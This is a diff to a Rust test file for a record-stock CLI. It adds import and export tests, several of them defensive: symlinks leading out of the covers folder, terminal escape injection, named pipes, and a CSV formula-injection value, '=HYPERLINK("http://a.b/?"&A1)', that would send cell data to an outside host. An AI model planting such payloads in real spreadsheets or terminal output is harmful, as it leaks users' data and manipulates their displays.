@@ -1,9 +1,12 @@
 //! Tables come into the stock and out of it: every good row once, every bad one told.
 
 use std::fs;
+use std::os::unix::fs::symlink;
 use std::path::{Path, PathBuf};
 
 use serde_json::Value;
+use sleevesight::heat::{ThermalZone, Thermometer};
+use sleevesight::model::{Key, SignedFile};
 use sleevesight::network::Bundle;
 use sleevesight::stock::{Entry, EntryCover, Stock, rows};
 use tempfile::TempDir;
@@ -135,10 +138,11 @@ fn bad_rows_are_told_by_their_lines_and_left_out() {
         Absolute,/etc/hostname,\n\
         Year,good.jpg,in spring\n\
         Short,good.jpg\n\
+        Long,good.jpg,1999,,more\n\
         Also good,./good.jpg,2001-05-04\n";
     let (status, out, err) = shop.import(table, &covers);
     assert_eq!(status, 1);
-    assert_eq!(out, "4 added, 0 changed, 0 as before, 6 left out; 4 in stock, 1 cover is missing\n");
+    assert_eq!(out, "6 added, 0 changed, 0 as before, 5 left out; 6 in stock, 1 cover is missing\n");
     let told: Vec<&str> = err.lines().collect();
     let wanted = [
         (3, "no title"),
@@ -146,8 +150,8 @@ fn bad_rows_are_told_by_their_lines_and_left_out() {
         (8, "not a JPEG"),
         (9, "not below"),
         (10, "not below"),
-        (11, "\"in spring\" is no year"),
-        (12, "2 fields"),
+        (11, "\"in spring\" is no year; it is kept without its year"),
+        (13, "5 fields"),
     ];
     assert_eq!(told.len(), wanted.len(), "{err}");
     for (sentence, (line, reason)) in told.iter().zip(wanted) {
@@ -240,8 +244,8 @@ fn a_table_without_what_is_owed_is_refused() {
 }
 
 fn entries(table: &str, covers: &Path) -> Vec<Entry> {
-    let rows = rows(table.as_bytes(), Some(covers)).expect("a table");
-    rows.into_iter().map(|row| row.expect("a good row")).collect()
+    let table = rows(table.as_bytes(), Some(covers)).expect("a table");
+    table.rows.into_iter().map(|row| row.expect("a good row")).collect()
 }
 
 #[test]
@@ -259,6 +263,68 @@ fn columns_are_known_in_any_order_case_and_separator() {
 }
 
 #[test]
+fn rows_are_taken_as_people_and_programs_write_them() {
+    let titles = |table: &[u8]| -> Vec<String> {
+        let table = rows(table, None).expect("a table");
+        table.rows.into_iter().map(|row| row.expect("a good row").details.title).collect()
+    };
+    let open =
+        "artist\ttitle\tyear\nBowie\t\"Heroes\t1977\nPrince\t7\" mix\t1984\nYankovic\t\"Weird Al\" live\t\n";
+    assert_eq!(
+        titles(open.as_bytes()),
+        ["\"Heroes", "7\" mix", "\"Weird Al\" live"],
+        "a mark that nothing closes"
+    );
+    let uneven = "artist,title,year,shelf\nA,Long,1999,B1,,\nB,Short\nC,Even,1999,B2\n";
+    assert_eq!(titles(uneven.as_bytes()), ["Long", "Short", "Even"], "empty fields too many, or too few");
+    assert_eq!(titles(b"sep=;\ntitle;year\nA, B;1999\n"), ["A, B"]);
+    assert_eq!(titles(b"title|year\nA|1999\n"), ["A"]);
+    let utf_16: Vec<u8> =
+        "\u{feff}title,artist\nПрости,Земфира\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    assert_eq!(titles(&utf_16), ["Прости"]);
+    let years = "title,year\na,1969.0\nb,17/08/1959\nc,Aug 1959\nd,c. 1970\ne,1959?\nf,1967/68\ng,?\nh,0\n";
+    let found = entries(years, Path::new("covers"));
+    let years: Vec<Option<i32>> = found.iter().map(|entry| entry.details.year).collect();
+    let known = [1969, 1959, 1959, 1970, 1959, 1967].map(Some);
+    assert_eq!(years, [&known[..], &[None; 2]].concat());
+    assert_eq!(found[6].odd_year.as_deref(), Some("?"));
+    assert!(found.iter().enumerate().all(|(place, entry)| (place == 6) == entry.odd_year.is_some()));
+}
+
+#[test]
+fn what_is_sold_is_not_in_stock_and_is_counted() {
+    let shop = Shop::new();
+    let (status, out, err) =
+        shop.import_bare("listing_id,title,status\n1,A,For Sale\n2,B,Sold\n3,C,draft\n4,D,\n");
+    assert_eq!((status, err.as_str()), (0, ""));
+    assert_eq!(out, "2 added, 0 changed, 0 as before, 0 left out, 2 not for sale; 2 in stock\n");
+}
+
+#[test]
+fn a_cover_is_found_in_another_case_or_form() {
+    let shop = Shop::new();
+    let covers = shop.path("covers");
+    fs::create_dir(&covers).expect("a folder");
+    fs::copy(flat().join("pop-pastel.jpg"), covers.join("Bjo\u{308}rk.JPG")).expect("copied");
+    let (_, out, err) = shop.import("title,cover\nDebut,björk.jpg\n", &covers);
+    assert_eq!(out, "1 added, 0 changed, 0 as before, 0 left out; 1 in stock\n", "{err}");
+    assert_eq!(shop.open().with_covers().expect("read").len(), 1);
+}
+
+#[test]
+fn a_table_in_another_encoding_is_read_and_said() {
+    let shop = Shop::new();
+    let path = shop.path("table.csv");
+    let (text, _, _) =
+        encoding_rs::WINDOWS_1251.encode("исполнитель;title\nЗемфира;Прости меня моя любовь\n");
+    fs::write(&path, &text).expect("the temporary folder takes files");
+    let (_, out, err) = shop.stock(&["import", &path.display().to_string()]);
+    assert!(out.starts_with("1 added"), "{out}{err}");
+    assert!(err.contains("windows-1251"), "{err}");
+    assert_eq!(shop.list()[0]["title"], "Прости меня моя любовь");
+}
+
+#[test]
 fn a_collection_as_discogs_exports_it_is_read() {
     let folder = tempfile::tempdir().expect("a temporary folder");
     fs::copy(flat().join("jazz-trumpet.jpg"), folder.path().join("2825456.jpg")).expect("copied");
@@ -270,7 +336,7 @@ fn a_collection_as_discogs_exports_it_is_read() {
     assert_eq!(entry.details.line(""), "Miles Davis: Kind Of Blue · Jazz wall");
     assert_eq!((entry.details.year, entry.details.note.as_str()), (Some(1959), "signed"));
     assert_eq!(entry.cover, EntryCover::File(folder.path().join("2825456.jpg")));
-    let bare = rows(table.as_bytes(), None).expect("a table").remove(0).expect("a good row");
+    let bare = rows(table.as_bytes(), None).expect("a table").rows.remove(0).expect("a good row");
     assert_eq!((bare.details, bare.cover), (entry.details.clone(), EntryCover::None));
 
     let unknown = table.replace("1959-08-17,2825456", "0,77");
@@ -345,4 +411,84 @@ fn a_command_says_what_it_needs() {
     assert_eq!(out, "#1 Miles Davis: Kind of Blue · Jazz · B3\n");
     shop.stock(&["remove", "1"]);
     assert_eq!(shop.list().len(), 1);
+}
+
+#[test]
+fn a_row_with_a_text_that_is_too_long_is_left_out_and_counted() {
+    let shop = Shop::new();
+    let table = format!("title,note\nA,short\n{},short\nB,{}\n", "T".repeat(501), "n".repeat(4001));
+    let (status, out, err) = shop.import_bare(&table);
+    assert_eq!((status, out.as_str()), (1, "1 added, 0 changed, 0 as before, 2 left out; 1 in stock\n"));
+    assert!(err.contains("line 3: the title has 501 letters, and 500 are the most"), "{err}");
+    assert!(err.contains("line 4: the note has 4001 letters, and 4000 are the most"), "{err}");
+}
+
+#[test]
+fn a_link_that_leads_out_of_the_covers_folder_is_not_followed() {
+    let shop = Shop::new();
+    let covers = shop.path("covers");
+    fs::create_dir(&covers).expect("a folder");
+    let outside = flat().join("jazz-trumpet.jpg");
+    symlink(&outside, covers.join("out.jpg")).expect("a link");
+    symlink(flat(), covers.join("below")).expect("a link");
+    fs::copy(&outside, covers.join("own.jpg")).expect("a copy");
+    symlink("own.jpg", covers.join("in.jpg")).expect("a link");
+    let table = "title,cover\nA,out.jpg\nB,below/jazz-trumpet.jpg\nC,in.jpg\n";
+    let (status, out, err) = shop.import(table, &covers);
+    assert_eq!((status, out.as_str()), (1, "1 added, 0 changed, 0 as before, 2 left out; 1 in stock\n"));
+    assert_eq!(err.matches("is a link that leads out of the covers' folder").count(), 2, "{err}");
+}
+
+#[test]
+fn nothing_of_a_table_does_anything_to_the_terminal() {
+    let shop = Shop::new();
+    let table = "title,year,cover\nA,\"\u{1b}]0;x\u{7}1999x\",a.jpg\nB,1999,\"../\u{1b}[31mx\"\nC,1999,\"no\u{1b}[5m\n<3>file\"\n";
+    let (_, out, err) = shop.import(table, &flat());
+    let (_, added, _) = shop.stock(&["add", "--title", "T\u{1b}]0;x\u{7}", "--genre", "G\u{9b}2J"]);
+    let (_, _, refused) = shop.import("\u{1b}[31mheader\u{1b}]0;x\u{7},b\n", &flat());
+    for text in [out, err, added, refused] {
+        assert!(!text.is_empty());
+        assert!(!text.chars().any(|letter| letter.is_control() && letter != '\n'), "{text:?}");
+        assert!(!text.lines().any(|line| line.starts_with("<3>")), "{text:?}");
+    }
+    let path = shop.path("\u{1b}[31m.jpg");
+    let asked = sleevesight().arg("classify").arg(path).assert().code(1);
+    let text = String::from_utf8(asked.get_output().stderr.clone()).expect("text");
+    assert!(text.contains("there is no such file") && !text.contains('\u{1b}'), "{text:?}");
+}
+
+#[test]
+fn a_pipe_that_nobody_writes_into_is_not_waited_for() {
+    let shop = Shop::new();
+    let pipe = shop.path("pipe");
+    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().expect("mkfifo").success());
+    let (status, _, err) = shop.stock(&["import", &pipe.display().to_string()]);
+    assert!(status == 1 && err.contains("it is no file but a pipe"), "{err}");
+    assert_eq!(ThermalZone::new(&pipe).celsius(), None);
+    let key = "RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3";
+    let key = Key::parse(key).expect("the key of minisign's manual");
+    fs::write(shop.path("pipe.minisig"), "none").expect("the folder takes files");
+    assert!(SignedFile::open(&pipe, std::slice::from_ref(&key)).is_err());
+    fs::remove_file(shop.path("pipe.minisig")).expect("it is there");
+    fs::rename(&pipe, shop.path("model.minisig")).expect("it is there");
+    assert!(SignedFile::open(&shop.path("model"), &[key]).is_err());
+}
+
+#[test]
+fn no_text_of_an_exported_table_is_a_formula() {
+    let shop = Shop::new();
+    let title = "=HYPERLINK(\"http://a.b/?\"&A1)";
+    shop.stock(&["add", "--title", title, "--artist", "@SUM(1)", "--note=-1+1", "--genre", "'+1"]);
+    let out = shop.path("out");
+    let (status, _, err) = shop.stock(&["export", &out.display().to_string()]);
+    assert_eq!(status, 0, "{err}");
+    let table = fs::read_to_string(out.join("stock.csv")).expect("a table");
+    let mut reader = csv::Reader::from_reader(table.as_bytes());
+    for field in reader.records().next().expect("a row").expect("fields").iter() {
+        assert!(!field.starts_with(['=', '+', '-', '@']), "{table}");
+    }
+    let before = shop.list();
+    let (_, again, _) = shop.stock(&["import", &out.join("stock.csv").display().to_string()]);
+    assert_eq!(again, "0 added, 0 changed, 1 as before, 0 left out; 1 in stock\n");
+    assert_eq!(shop.list(), before);
 }
